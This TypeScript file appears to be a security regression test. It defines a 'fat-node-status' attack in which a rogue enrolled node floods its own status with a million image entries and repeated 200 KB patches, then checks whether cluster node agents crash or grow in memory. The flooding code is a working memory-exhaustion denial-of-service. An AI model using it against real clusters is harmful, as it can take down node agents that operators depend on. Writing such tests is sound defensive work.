import { memoryMiB } from '../../bench/process.ts'
import { defineAttack } from '../attack.ts'

const status = '/api/v1/nodes/evil-images/status'
const mergePatch = 'application/merge-patch+json'

/** A million images in a node's own status, then as much as is taken, again and again: every agent once read it and ran out of memory. */
export const fatNodeStatus = defineAttack('fat-node-status', async ({ askAs, cluster, enroll }) => {
  const evil = await enroll('evil-images')
  await askAs(evil, 'POST', '/api/v1/nodes', { apiVersion: 'v1', kind: 'Node', metadata: { name: 'evil-images' } })
  const agents = cluster.nodes.map((name) => cluster.pidOf(name))
  const rss = () => Math.max(...agents.map((pid) => memoryMiB(pid).rss))
  const before = rss()
  const million = await askAs(evil, 'PATCH', status, { status: { images: Array.from({ length: 1_000_000 }, () => ({})) } }, mergePatch)
  const images = Array.from({ length: 50 }, (_, index) => ({ names: [`${index}`.padEnd(4_000, 'x')], sizeBytes: index }))
  const taken = new Map<number, number>()
  for (let round = 0; round < 200; round += 1) {
    const phase = round % 2 === 0 ? 'Pending' : 'Running'
    const { status: code } = await askAs(evil, 'PATCH', status, { status: { images, phase } }, mergePatch)
    taken.set(code, (taken.get(code) ?? 0) + 1)
  }
  const same = cluster.nodes.every((name, index) => cluster.pidOf(name) === agents[index])
  const words = [...taken].map(([code, times]) => `${times} × ${code}`).join(', ')
  return `a million: ${million.status}; 200 KB each: ${words}; agents ${same ? 'same' : 'ENDED'}, ${before.toFixed(0)} → ${rss().toFixed(0)} MiB`
})
